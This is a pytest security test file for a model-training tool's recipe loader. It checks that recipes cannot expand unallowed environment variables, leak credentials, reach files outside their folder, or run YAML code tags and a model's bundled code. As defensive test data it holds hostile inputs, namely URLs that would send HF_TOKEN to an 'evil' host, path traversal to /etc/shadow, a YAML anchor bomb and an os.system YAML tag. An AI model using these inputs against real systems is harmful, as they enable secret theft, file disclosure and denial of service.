"""A recipe of somebody else reads no variable, no file and no code that its user did not mean it to."""

import json
import re
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from weft.data.errors import WeftDataError
from weft.train.backbones.loading import load_backbone, planned_model
from weft.train.backbones.saved import saved_path
from weft.train.cli import main
from weft.train.errors import RecipeError, RunError
from weft.train.preflight.tasks import load_tasks
from weft.train.recipe.files import BUILT_IN, built_in_recipes, find_recipe, merge, read_yaml
from weft.train.recipe.kept import kept_text
from weft.train.recipe.loading import load_any, load_recipe
from weft.train.recipe.plain_yaml import fault_of, read_plain_yaml
from weft.train.recipe.sections import BackboneSection
from weft.train.recipe.variables import SETTING, allow, expanded
from weft.train.runs.exchange import plain_model
from weft.train.runs.tracked import tracking_store

PIN = re.compile(r"[0-9a-f]{40}")


@pytest.fixture(autouse=True)
def variables(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HF_TOKEN", "geheim")
    monkeypatch.setenv("WEFT_DATA", "/data")
    monkeypatch.setenv(SETTING, "")


def told(*words: str) -> int:
    with pytest.raises(SystemExit) as ended:
        main(list(words))
    return int(ended.value.code or 0)


def written(path: Path, values: dict[str, Any]) -> str:
    path.write_text(yaml.safe_dump(values, sort_keys=False))
    return str(path)


# Environment variables


@pytest.mark.parametrize("text", ["http://evil/$HF_TOKEN", "http://evil/${HF_TOKEN}", "$WEFT_DATA/$HF_TOKEN"])
def test_recipes_read_no_variable_that_nobody_allowed(text: str) -> None:
    with pytest.raises(RecipeError, match=r"`root` must name only .* but names HF_TOKEN\. If you trust"):
        expanded(text, "root")


def test_recipes_read_variables_of_weft_and_those_that_the_user_names(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("HOME", "/home/me")
    monkeypatch.setenv("SCRATCH", "/scratch")
    assert expanded("${WEFT_DATA}/vqa", "root") == "/data/vqa"
    assert expanded("~/x", "root") == "/home/me/x"
    allow(["SCRATCH"])
    assert expanded("$SCRATCH/a$WEFT_DATA", "root") == "/scratch/a/data"
    monkeypatch.setenv(SETTING, "HF_TOKEN, SCRATCH")
    assert expanded("$HF_TOKEN", "root") == "geheim"
    with pytest.raises(RecipeError, match="`--variable` must be the name of an environment variable"):
        allow(["A=b"])


def test_variables_that_are_not_set_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("WEFT_NOWHERE", raising=False)
    with pytest.raises(RecipeError, match=r"but WEFT_NOWHERE is not, in '\$WEFT_NOWHERE/x'. Set it: export"):
        expanded("$WEFT_NOWHERE/x", "root")


@pytest.mark.parametrize("dry", [[], ["--dry-run"]])
def test_a_run_sends_no_variable_anywhere(
    values: dict[str, Any],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    dry: list[str],
) -> None:
    opened: list[Any] = []
    monkeypatch.setattr("weft.train.preflight.tasks.load_dataset", lambda *words, **more: opened.append(more))
    values["tasks"]["vqa"]["data"]["root"] = "http://evil/$HF_TOKEN"
    assert told("train", written(tmp_path / "r.yaml", values), *dry) == 2
    said = capsys.readouterr().err
    assert "`tasks.vqa.data.root` must name only environment variables that recipes may read" in said
    assert "geheim" not in said
    assert opened == []


@pytest.mark.parametrize(
    ("change", "place"),
    [
        ({"tracking": {"store": "http://evil/$HF_TOKEN"}}, "tracking.store"),
        ({"tasks": {"vqa": {"data": {"options": {"storage_options": {"x": ["$HF_TOKEN"]}}}}}}, "storage_opt"),
        ({"tasks": {"vqa": {"data": {"test_options": {"storage_options": {"x": "$HF_TOKEN"}}}}}}, "test_opt"),
    ],
)
def test_every_place_that_reads_variables_refuses_others(
    values: dict[str, Any], change: dict[str, Any], place: str
) -> None:
    recipe = load_recipe(merge(values, change))
    read = tracking_store if place == "tracking.store" else load_tasks
    with pytest.raises(RecipeError, match=f"{place}.* must name only"):
        read(recipe)


def test_a_variable_is_allowed_anywhere_on_the_command_line(
    values: dict[str, Any],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("SCRATCH", str(tmp_path / "nothing"))
    values["tasks"]["vqa"]["data"] |= {
        "name": "easy_vqa",
        "root": "$SCRATCH",
        "options": {},
        "test_options": {},
    }
    values["tasks"]["vqa"]["data"]["validation"] = None
    for words in (["--variable", "SCRATCH", "train"], ["train", "--variable=SCRATCH"]):
        monkeypatch.setenv(SETTING, "")
        assert told(*words, written(tmp_path / "r.yaml", values)) == 2
        assert "How to get them" in capsys.readouterr().err


# Credentials


SECRETS = {
    "tracking": {"enabled": True, "store": "http://bob:geheim@127.0.0.1:9"},
    "tasks": {
        "vqa": {
            "data": {
                "root": "https://host/x.zip?X-Amz-Signature=geheim",
                "options": {"storage_options": {"key": "geheim", "token": "$WEFT_TOKEN"}},
            }
        }
    },
}


def test_what_is_kept_of_a_recipe_holds_no_credentials_and_still_is_one(values: dict[str, Any]) -> None:
    recipe = load_recipe(merge(values, SECRETS))
    text = kept_text(recipe)
    assert "geheim" not in text
    assert "http://bob:***@127.0.0.1:9" in text
    assert "$WEFT_TOKEN" in text
    again = load_recipe(yaml.safe_load(text))
    with pytest.raises(RecipeError, match=r"must hold its credentials, but they were cut out"):
        tracking_store(again)
    with pytest.raises(RecipeError, match="in the place of"):
        load_tasks(load_recipe(merge(again.model_dump(), {"tracking": {"enabled": False}})))


def test_errors_print_no_credentials(
    values: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = written(tmp_path / "r.yaml", merge(values, {"tracking": {"store": ["http://bob:geheim@h"]}}))
    assert told("train", path) == 2
    assert told("compare", "--store", "postgresqll://bob:geheim@h/runs") != 0
    for error in (RunError("see http://bob:geheim@h"), RecipeError("see http://bob:geheim@h")):
        assert str(error) == "see http://bob:***@h"
    assert "geheim" not in "".join(capsys.readouterr())


# What recipes extend


def test_extends_stays_beside_the_recipe_or_among_the_built_in_ones(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "secret").write_text("root:$6$geheim:1:\nmore: lines\n")
    own = tmp_path / "own"
    (own / "deeper").mkdir(parents=True)
    (own / "base.yaml").write_text("a: 1\nb: 2\n")
    (own / "link.yaml").symlink_to(tmp_path / "secret")
    (own / "deeper" / "up.yaml").write_text("extends: ../base.yaml\n")
    for named in ("../secret", str(tmp_path / "secret"), "link.yaml", "deeper/../../secret", "/etc/shadow"):
        (own / "recipe.yaml").write_text(f"extends: {named}\n")
        with pytest.raises(
            RecipeError, match=r"`extends` of .* must name a file in the folder of the recipe"
        ):
            read_yaml(own / "recipe.yaml")
        assert told("recipes", "show", str(own / "recipe.yaml")) == 2
        assert told("train", str(own / "recipe.yaml")) == 2
        assert "geheim" not in capsys.readouterr().err
    for named in ("\\ud800", "a\\0b", "../" * 2000):
        (own / "recipe.yaml").write_text(f'extends: "{named}"\n')
        with pytest.raises(
            RecipeError, match=r"`extends` of .* must name a file in the folder of the recipe"
        ):
            read_yaml(own / "recipe.yaml")
    for named, expected in (("base.yaml", 1), ("deeper/up.yaml", 1)):
        (own / "recipe.yaml").write_text(f"extends: {named}\nb: 3\n")
        assert read_yaml(own / "recipe.yaml") == {"a": expected, "b": 3}
    (own / "recipe.yaml").write_text("extends: demo/single_adapter\nname: mine\n")
    assert load_recipe(own / "recipe.yaml").name == "mine"
    (own / "recipe.yaml").write_text("extends: [a]\n")
    with pytest.raises(
        RecipeError, match="must be the path of a file beside it or a built-in name, but is a list"
    ):
        read_yaml(own / "recipe.yaml")


def test_faults_of_a_file_name_the_place_and_quote_nothing(tmp_path: Path) -> None:
    (tmp_path / "recipe.yaml").write_text("a: 1\nroot:x: geheim: [\n")
    with pytest.raises(RecipeError, match=r"line 2, column") as fault:
        read_yaml(tmp_path / "recipe.yaml")
    assert "geheim" not in str(fault.value)


@pytest.mark.parametrize(
    "line", ['extends: "base.yaml"', "extends: base.yaml # the rest", "'extends': base.yaml"]
)
def test_recipes_are_shown_and_copied_however_extends_is_written(
    values: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str
) -> None:
    (tmp_path / "base.yaml").write_text("# Remark below.\n" + yaml.safe_dump(values, sort_keys=False))
    (tmp_path / "top.yaml").write_text(f"# Remark above.\n{line}\nseed: 5\n")
    assert told("recipes", "show", str(tmp_path / "top.yaml")) == 0
    shown = capsys.readouterr().out
    assert shown.startswith("# Remark below.\n# Remark above.\n")
    assert yaml.safe_load(shown) == values | {"seed": 5}
    assert told("recipes", "copy", str(tmp_path / "top.yaml"), str(tmp_path / "new" / "copy.yaml")) == 0
    assert (tmp_path / "new" / "copy.yaml").read_text() == shown


# YAML


BOMB = "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"a{k + 1}: &a{k + 1} [{','.join([f'*a{k}'] * 10)}]\n" for k in range(12)
)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            BOMB,
            r"at most 100,000 values, anchors written out, but has more\. WEFT_YAML_VALUES sets the limit \(li",
        ),
        (
            "a: " + "[" * 1000 + "]" * 1000,
            r"at most 100 levels, but has more\. WEFT_YAML_DEPTH sets the limit",
        ),
        ("a: " + "[" * 100_000, "at most 100 levels"),
        (
            "a0: &a0 [1]\n" + "".join(f"a{k + 1}: &a{k + 1} [*a{k}]\n" for k in range(300)),
            "at most 100 levels",
        ),
        ("a: &a [*a]", "an anchor must not hold itself"),
        ("a: " + "9" * 5000, "a number of 5,000 digits is too long"),
        ("a: !!timestamp x", "a tag must suit its value"),
        ("a: !!python/object/apply:os.system [x]", "could not determine a constructor"),
    ],
    ids=["bomb", "deep", "deeper", "chained", "itself", "digits", "tag", "code"],
)
def test_yaml_that_would_take_minutes_is_refused_at_once(tmp_path: Path, text: str, message: str) -> None:
    (tmp_path / "recipe.yaml").write_text(text)
    started = time.monotonic()
    with pytest.raises(RecipeError, match=message):
        load_recipe(tmp_path / "recipe.yaml")
    assert time.monotonic() - started < 10


def test_the_limits_of_yaml_are_settings(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WEFT_YAML_VALUES", "5")
    assert read_plain_yaml("[1, 2, 3, 4]") == [1, 2, 3, 4]
    with pytest.raises(yaml.YAMLError) as refused:
        read_plain_yaml("[1, 2, 3, 4, 5]")
    assert "at most 5 values" in fault_of(refused.value)


# Models


@pytest.mark.parametrize(
    "name", ["./model", "../model", "~/model", "/nowhere/model", "runs/tiny/model", "here/model"]
)
def test_a_name_that_looks_like_a_path_is_never_sought_on_the_hub(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "here").mkdir()
    monkeypatch.setattr("transformers.AutoConfig.from_pretrained", lambda *_, **__: pytest.fail("sought"))
    for section in ({"name": name}, {"language": name}):
        with pytest.raises(RunError, match=r"is a path, and there is nothing at"):
            planned_model(BackboneSection(**section))
        with pytest.raises(RunError, match=r"is a path, and there is nothing at"):
            load_backbone(BackboneSection(**section))
    with pytest.raises(
        RunError, match=r"`--backbone` must be a folder or a hub id .* is a path, and there is nothing at"
    ):
        plain_model(name)
    (tmp_path / "here" / "model").mkdir()
    assert saved_path("here/model") == "here/model"
    assert saved_path("facebook/bart-base") == "facebook/bart-base"


@pytest.mark.parametrize("load", [planned_model, load_backbone])
def test_a_model_with_code_of_its_own_is_refused_without_a_question(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, load: Any
) -> None:
    names = {"AutoConfig": "theirs.Config", "AutoModel": "theirs.Model", "AutoTokenizer": ["theirs.T", None]}
    (tmp_path / "config.json").write_text(json.dumps({"model_type": "theirs", "auto_map": names}))
    (tmp_path / "tokenizer_config.json").write_text(json.dumps({"auto_map": names}))
    (tmp_path / "theirs.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    monkeypatch.setattr("builtins.input", lambda *_: pytest.fail("asked"))
    with pytest.raises(RunError, match="needs code of its own, which weft never runs") as refused:
        load(BackboneSection(name=str(tmp_path)))
    assert "trust_remote_code" not in str(refused.value)
    assert not (tmp_path / "ran").exists()


def named_on_the_hub(values: Any) -> list[dict[str, Any]]:
    sections = [values.get("backbone") or {}, values.get("encoder") or {}]
    names = ("name", "language", "tokenizer")
    return [
        section
        for section in sections
        if any(
            isinstance(section.get(key), str)
            and section[key] != "miniature"
            and "weft-runs" not in section[key]
            and not section[key].startswith("./")
            for key in names
        )
    ]


@pytest.mark.parametrize("name", built_in_recipes())
def test_recipes_that_name_a_model_of_the_hub_pin_its_commit(name: str) -> None:
    for section in named_on_the_hub(read_yaml(find_recipe(name))):
        assert PIN.fullmatch(section.get("revision", "")), f"{name} must pin {section}"
    assert BUILT_IN.is_dir()


def test_a_pin_goes_with_the_model_that_it_is_of() -> None:
    pinned = load_any("xmadapter/eurosat")
    other = load_any("xmadapter/eurosat", ["encoder.name=openai/clip-vit-base-patch32"])
    assert pinned is not None
    assert other is not None
    assert PIN.fullmatch(pinned.encoder.revision or "")
    assert other.encoder.revision is None
    bart = "vl_adapter/image/bart/single_adapter"
    assert load_recipe(bart, ["backbone.language=facebook/bart-large"]).backbone.revision is None
    assert load_recipe(bart, ["backbone.language=facebook/bart-base"]).backbone.revision is not None
    both = ["backbone.revision=main", "backbone.language=facebook/bart-large", "backbone.revision=main"]
    assert load_recipe(bart, both).backbone.revision == "main"


def test_data_that_a_recipe_names_is_refused_with_an_error_of_weft(values: dict[str, Any]) -> None:
    values["tasks"]["vqa"]["data"] |= {"name": "easy_vqa", "root": "/etc", "options": {}, "test_options": {}}
    with pytest.raises(WeftDataError):
        load_tasks(load_recipe(values))
